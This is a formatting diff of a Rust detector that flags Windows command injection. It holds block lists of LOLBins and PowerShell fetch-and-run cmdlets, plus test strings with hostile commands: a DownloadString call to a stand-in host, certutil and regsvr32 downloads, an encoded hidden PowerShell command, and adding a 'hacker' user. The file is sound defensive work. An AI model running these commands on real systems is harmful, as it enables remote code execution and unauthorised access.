@@ -33,7 +33,24 @@ const ENV: &[(&str, &str)] = &[
 ];
 
 /// PowerShell parameters (any prefix of them is accepted by powershell.exe, so is matched).
-const PS_PARAMS: &[&str] = &["encodedcommand", "ec", "noprofile", "nop", "noninteractive", "noni", "windowstyle", "executionpolicy", "ep", "command", "file", "noexit", "nologo", "sta", "mta", "version"];
+const PS_PARAMS: &[&str] = &[
+    "encodedcommand",
+    "ec",
+    "noprofile",
+    "nop",
+    "noninteractive",
+    "noni",
+    "windowstyle",
+    "executionpolicy",
+    "ep",
+    "command",
+    "file",
+    "noexit",
+    "nologo",
+    "sta",
+    "mta",
+    "version",
+];
 
 /// Commands whose first argument must be a `/x` or `-x` switch (or one of `words`).
 const SWITCHED: &[(&str, &[&str])] = &[
@@ -57,10 +74,44 @@ const SWITCHED: &[(&str, &[&str])] = &[
 ];
 
 /// Commands that are an attack on their own at a command position after a separator.
-const LONE: &[&str] = &["whoami", "ipconfig", "systeminfo", "tasklist", "ver", "vol", "hostname", "netstat", "set", "dir", "cls", "path", "getmac", "qwinsta", "quser"];
+const LONE: &[&str] = &[
+    "whoami",
+    "ipconfig",
+    "systeminfo",
+    "tasklist",
+    "ver",
+    "vol",
+    "hostname",
+    "netstat",
+    "set",
+    "dir",
+    "cls",
+    "path",
+    "getmac",
+    "qwinsta",
+    "quser",
+];
 
 /// PowerShell cmdlets and aliases that run code or fetch it.
-const PS_CMDLETS: &[&str] = &["iex", "invoke-expression", "iwr", "invoke-webrequest", "irm", "invoke-restmethod", "iwmi", "invoke-wmimethod", "start-process", "saps", "new-object", "invoke-command", "icm", "start-bitstransfer", "invoke-item", "set-mppreference", "add-mppreference"];
+const PS_CMDLETS: &[&str] = &[
+    "iex",
+    "invoke-expression",
+    "iwr",
+    "invoke-webrequest",
+    "irm",
+    "invoke-restmethod",
+    "iwmi",
+    "invoke-wmimethod",
+    "start-process",
+    "saps",
+    "new-object",
+    "invoke-command",
+    "icm",
+    "start-bitstransfer",
+    "invoke-item",
+    "set-mppreference",
+    "add-mppreference",
+];
 
 fn is_word(b: u8) -> bool {
     b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-' | b'\\' | b':' | b'/')
@@ -69,7 +120,11 @@ fn is_word(b: u8) -> bool {
 /// Lower-cased, carets and in-word quotes / backticks removed, `%VAR%` and `%VAR:~a,b%`
 /// expanded; `marks` flags bytes an obfuscation step produced or followed.
 fn deobfuscate(s: &[u8]) -> (Vec<u8>, Vec<bool>) {
-    let vars = if s.len() > 6 && s.contains(&b'%') && s.windows(4).any(|w| w.eq_ignore_ascii_case(b"set ")) { set_assignments(s) } else { Vec::new() };
+    let vars = if s.len() > 6 && s.contains(&b'%') && s.windows(4).any(|w| w.eq_ignore_ascii_case(b"set ")) {
+        set_assignments(s)
+    } else {
+        Vec::new()
+    };
     let mut out = Vec::with_capacity(s.len());
     let mut marks = Vec::with_capacity(s.len());
     let mut pending = false;
@@ -188,7 +243,11 @@ fn expand(inner: &[u8]) -> Option<Vec<u8>> {
     let end = match parts.next() {
         Some(l) => {
             let l: i64 = l.trim().parse().ok()?;
-            if l < 0 { (len + l).max(start) } else { (start + l).min(len) }
+            if l < 0 {
+                (len + l).max(start)
+            } else {
+                (start + l).min(len)
+            }
         }
         None => len,
     };
@@ -228,10 +287,18 @@ impl Check for ShellWindows {
         });
         let (reason, strong, obfuscated, opener) = best?;
         let level = if obfuscated {
-            if is_long_or_prose(raw) { 2 } else { 1 }
+            if is_long_or_prose(raw) {
+                2
+            } else {
+                1
+            }
         } else {
             let base = if opener == Opener::Start && !strong { 2 } else { 1 };
-            if is_long_or_prose(raw) { base.max(2) } else { base }
+            if is_long_or_prose(raw) {
+                base.max(2)
+            } else {
+                base
+            }
         };
         (level <= input.sensitivity).then_some(Finding { reason, score: 0.95, level })
     }
@@ -239,11 +306,58 @@ impl Check for ShellWindows {
 
 /// Words that can open a Windows command line.
 const STARTERS: &[&str] = &[
-    "cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh", "certutil", "certutil.exe", "bitsadmin", "regsvr32", "rundll32",
-    "rundll32.exe", "mshta", "mshta.exe", "wmic", "cscript", "wscript", "schtasks", "reg", "net", "net1", "netsh", "sc",
-    "taskkill", "tasklist", "timeout", "ipconfig", "whoami", "systeminfo", "for", "if", "start", "dir", "type", "ping",
-    "iex", "iwr", "irm", "iwmi", "invoke-expression", "invoke-webrequest", "invoke-restmethod", "invoke-wmimethod",
-    "start-process", "saps", "new-object", "invoke-command", "icm", "vssadmin", "getmac", "hostname", "ver", "c:\\windows\\system32\\cmd.exe",
+    "cmd",
+    "cmd.exe",
+    "powershell",
+    "powershell.exe",
+    "pwsh",
+    "certutil",
+    "certutil.exe",
+    "bitsadmin",
+    "regsvr32",
+    "rundll32",
+    "rundll32.exe",
+    "mshta",
+    "mshta.exe",
+    "wmic",
+    "cscript",
+    "wscript",
+    "schtasks",
+    "reg",
+    "net",
+    "net1",
+    "netsh",
+    "sc",
+    "taskkill",
+    "tasklist",
+    "timeout",
+    "ipconfig",
+    "whoami",
+    "systeminfo",
+    "for",
+    "if",
+    "start",
+    "dir",
+    "type",
+    "ping",
+    "iex",
+    "iwr",
+    "irm",
+    "iwmi",
+    "invoke-expression",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "invoke-wmimethod",
+    "start-process",
+    "saps",
+    "new-object",
+    "invoke-command",
+    "icm",
+    "vssadmin",
+    "getmac",
+    "hostname",
+    "ver",
+    "c:\\windows\\system32\\cmd.exe",
 ];
 
 /// For each first letter, a bit per length of the [`STARTERS`] beginning with it: this test
@@ -300,7 +414,15 @@ fn scan(t: &[u8], marks: &[bool], report: &mut dyn FnMut(&'static str, bool, boo
     // PowerShell download-and-run idioms count wherever they stand. Each holds one of `.-:(`;
     // prose without them is not searched at all.
     let punctuation = crate::ByteSet::from_bytes(t);
-    let idioms = [&b"net.webclient"[..], b").downloadstring(", b").downloadfile(", b"::frombase64string(", b"-encodedcommand ", b"invoke-expression", b"iex("];
+    let idioms = [
+        &b"net.webclient"[..],
+        b").downloadstring(",
+        b").downloadfile(",
+        b"::frombase64string(",
+        b"-encodedcommand ",
+        b"invoke-expression",
+        b"iex(",
+    ];
     for idiom in idioms.into_iter().filter(|_| punctuation.any(b".-:(")) {
         if contains(t, idiom) {
             let obf = marks.iter().any(|&m| m);
@@ -349,14 +471,27 @@ fn scan(t: &[u8], marks: &[bool], report: &mut dyn FnMut(&'static str, bool, boo
 
 /// Judges the command word `t[i..end]`; returns where a nested command line starts (after
 /// `cmd /c`, `do`, an `if` condition) when there is one.
-fn command(t: &[u8], marks: &[bool], i: usize, end: usize, op: Opener, report: &mut dyn FnMut(&'static str, bool, bool, Opener)) -> Option<usize> {
+fn command(
+    t: &[u8],
+    marks: &[bool],
+    i: usize,
+    end: usize,
+    op: Opener,
+    report: &mut dyn FnMut(&'static str, bool, bool, Opener),
+) -> Option<usize> {
     let word = &t[i..end];
     let base = word.rsplit(|&c| c == b'\\' || c == b'/').next().unwrap_or(word);
     let base = base.strip_suffix(b".exe").or_else(|| base.strip_suffix(b".com")).unwrap_or(base);
     let pathed = base.len() < word.len();
     // A path counts only when it leads to a binary (`c:\windows\system32\cmd.exe`), so the last
     // segment of `c:\an\arbitrary\path` is not the `path` command.
-    if pathed && !(word.ends_with(b".exe") || word.ends_with(b".com") || contains(word, b"system32") || contains(word, b"syswow64") || contains(word, b"windowspowershell")) {
+    if pathed
+        && !(word.ends_with(b".exe")
+            || word.ends_with(b".com")
+            || contains(word, b"system32")
+            || contains(word, b"syswow64")
+            || contains(word, b"windowspowershell"))
+    {
         return None;
     }
     // A word no arm below names reports nothing: rejected before its arguments are collected
@@ -389,7 +524,11 @@ fn command(t: &[u8], marks: &[bool], i: usize, end: usize, op: Opener, report: &
     let first = args.first().copied().unwrap_or(b"");
     let obf = marks.get(i..end.max(i + 1).min(marks.len())).is_some_and(|m| m.iter().any(|&x| x));
     let switch = |a: &[u8]| a.len() >= 2 && (a[0] == b'/' || a[0] == b'-') && a[1].is_ascii_alphabetic();
-    let winpath = |a: &[u8]| a.len() >= 3 && a[0].is_ascii_alphabetic() && a[1] == b':' && (a[2] == b'\\' || a[2] == b'/') || a.starts_with(b"\\\\") || a.first() == Some(&b'%');
+    let winpath = |a: &[u8]| {
+        a.len() >= 3 && a[0].is_ascii_alphabetic() && a[1] == b':' && (a[2] == b'\\' || a[2] == b'/')
+            || a.starts_with(b"\\\\")
+            || a.first() == Some(&b'%')
+    };
     let url = |a: &[u8]| contains(a, b"://") || a.starts_with(b"javascript:") || a.starts_with(b"vbscript:");
     let mut hit = |reason: &'static str, strong: bool| report(reason, strong || pathed, obf, op);
     match base {
@@ -425,7 +564,12 @@ fn command(t: &[u8], marks: &[bool], i: usize, end: usize, op: Opener, report: &
             }
         }
         _ if PS_CMDLETS.iter().any(|c| c.as_bytes() == base) => {
-            let shaped = first == b"(" || switch(first) || first.starts_with(b"$") || url(first) || first.starts_with(b"net.") || first.starts_with(b"system.")
+            let shaped = first == b"("
+                || switch(first)
+                || first.starts_with(b"$")
+                || url(first)
+                || first.starts_with(b"net.")
+                || first.starts_with(b"system.")
                 || [&b".exe"[..], b".ps1", b".bat", b".dll", b".hta", b".vbs"].iter().any(|e| first.ends_with(e))
                 || winpath(first);
             if shaped {
@@ -450,11 +594,24 @@ fn command(t: &[u8], marks: &[bool], i: usize, end: usize, op: Opener, report: &
                 return Some(cond_end);
             }
         }
-        b"rundll32" if args.iter().any(|a| a.contains(&b',') || url(a) || a.ends_with(b".dll")) || contains(&t[end..j], b",") => hit("command-injection:windows-lolbin", true),
+        b"rundll32" if args.iter().any(|a| a.contains(&b',') || url(a) || a.ends_with(b".dll")) || contains(&t[end..j], b",") => {
+            hit("command-injection:windows-lolbin", true)
+        }
         b"mshta" if args.iter().any(|a| url(a) || a.ends_with(b".hta") || winpath(a)) => hit("command-injection:windows-lolbin", true),
-        b"cscript" | b"wscript" if args.iter().any(|a| [&b".vbs"[..], b".js", b".wsf", b".vbe", b".jse"].iter().any(|e| a.ends_with(e)) || a.starts_with(b"//e:")) => hit("command-injection:windows-lolbin", true),
-        b"start" if switch(first) || first.ends_with(b".exe") || url(first) || winpath(first) => hit("command-injection:windows-cmd", false),
-        b"dir" | b"type" | b"copy" | b"del" | b"move" | b"attrib" | b"icacls" | b"cacls" | b"takeown" if args.iter().any(|a| winpath(a) || switch(a) && base != b"type") || base == b"type" && args.iter().any(|a| a.ends_with(b".ini") || a.ends_with(b".txt") || a.ends_with(b".config")) => {
+        b"cscript" | b"wscript"
+            if args
+                .iter()
+                .any(|a| [&b".vbs"[..], b".js", b".wsf", b".vbe", b".jse"].iter().any(|e| a.ends_with(e)) || a.starts_with(b"//e:")) =>
+        {
+            hit("command-injection:windows-lolbin", true)
+        }
+        b"start" if switch(first) || first.ends_with(b".exe") || url(first) || winpath(first) => {
+            hit("command-injection:windows-cmd", false)
+        }
+        b"dir" | b"type" | b"copy" | b"del" | b"move" | b"attrib" | b"icacls" | b"cacls" | b"takeown"
+            if args.iter().any(|a| winpath(a) || switch(a) && base != b"type")
+                || base == b"type" && args.iter().any(|a| a.ends_with(b".ini") || a.ends_with(b".txt") || a.ends_with(b".config")) =>
+        {
             hit("command-injection:windows-cmd", args.iter().any(|a| winpath(a)));
         }
         b"ping" if args.iter().any(|a| matches!(*a, b"-n" | b"/n" | b"-t" | b"-l")) => hit("command-injection:windows-cmd", true),
@@ -474,9 +631,16 @@ fn command(t: &[u8], marks: &[bool], i: usize, end: usize, op: Opener, report: &
             }
             let lone = LONE.iter().any(|c| c.as_bytes() == base);
             let seg_clean = args.iter().all(|a| switch(a) || winpath(a));
-            if lone && op == Opener::Sep && seg_clean && !(base == b"set" || base == b"path") || lone && op == Opener::Sep && args.is_empty() {
+            if lone && op == Opener::Sep && seg_clean && !(base == b"set" || base == b"path")
+                || lone && op == Opener::Sep && args.is_empty()
+            {
                 hit("command-injection:windows-cmd", false);
-            } else if lone && op == Opener::Start && args.is_empty() && matches!(base, b"whoami" | b"ipconfig" | b"systeminfo" | b"tasklist" | b"getmac") && j >= t.len() {
+            } else if lone
+                && op == Opener::Start
+                && args.is_empty()
+                && matches!(base, b"whoami" | b"ipconfig" | b"systeminfo" | b"tasklist" | b"getmac")
+                && j >= t.len()
+            {
                 hit("command-injection:windows-cmd", true);
             }
         }
@@ -487,8 +651,30 @@ fn command(t: &[u8], marks: &[bool], i: usize, end: usize, op: Opener, report: &
 /// The command words `command` matches by name besides [`PS_CMDLETS`], [`SWITCHED`] and
 /// [`LONE`]; keep in step with its arms.
 const ARM_NAMES: &[&str] = &[
-    "cmd", "powershell", "pwsh", "powershell_ise", "for", "if", "rundll32", "mshta", "cscript", "wscript", "start",
-    "dir", "type", "copy", "del", "move", "attrib", "icacls", "cacls", "takeown", "ping", "net", "net1", "echo",
+    "cmd",
+    "powershell",
+    "pwsh",
+    "powershell_ise",
+    "for",
+    "if",
+    "rundll32",
+    "mshta",
+    "cscript",
+    "wscript",
+    "start",
+    "dir",
+    "type",
+    "copy",
+    "del",
+    "move",
+    "attrib",
+    "icacls",
+    "cacls",
+    "takeown",
+    "ping",
+    "net",
+    "net1",
+    "echo",
 ];
 
 /// For each first letter, a bit per length of every word `command` knows.
@@ -534,10 +720,27 @@ mod tests {
     fn windows_forms() {
         assert_eq!(expand(b"ProgramData:~0,1"), Some(b"c".to_vec()));
         assert_eq!(expand(b"comspec:~-7"), Some(b"cmd.exe".to_vec()));
-        for s in ["& cmd /c whoami", "| w^h^o^a^m^i", "powershell -nop -w hidden -enc SQBFAFgA", "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')", "& certutil -urlcache -split -f http://x/a.exe a.exe", "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "%COMSPEC% /c dir c:\\", "|| net user hacker P4ss /add", "& for /f %i in ('whoami') do echo %i", "; mshta http://x/a.hta", "& %ProgramData:~0,1%%ProgramData:~9,1%d /c ver"] {
+        for s in [
+            "& cmd /c whoami",
+            "| w^h^o^a^m^i",
+            "powershell -nop -w hidden -enc SQBFAFgA",
+            "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
+            "& certutil -urlcache -split -f http://x/a.exe a.exe",
+            "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
+            "%COMSPEC% /c dir c:\\",
+            "|| net user hacker P4ss /add",
+            "& for /f %i in ('whoami') do echo %i",
+            "; mshta http://x/a.hta",
+            "& %ProgramData:~0,1%%ProgramData:~9,1%d /c ver",
+        ] {
             assert_eq!(level(s), Some(1), "{s}");
         }
-        for s in ["C:\\Program Files\\Common Files\\system", "select the dir and type a name", "Tom & Jerry", "Start-Process is a cmdlet, explain it"] {
+        for s in [
+            "C:\\Program Files\\Common Files\\system",
+            "select the dir and type a name",
+            "Tom & Jerry",
+            "Start-Process is a cmdlet, explain it",
+        ] {
             assert_eq!(level(s), None, "{s}");
         }
     }
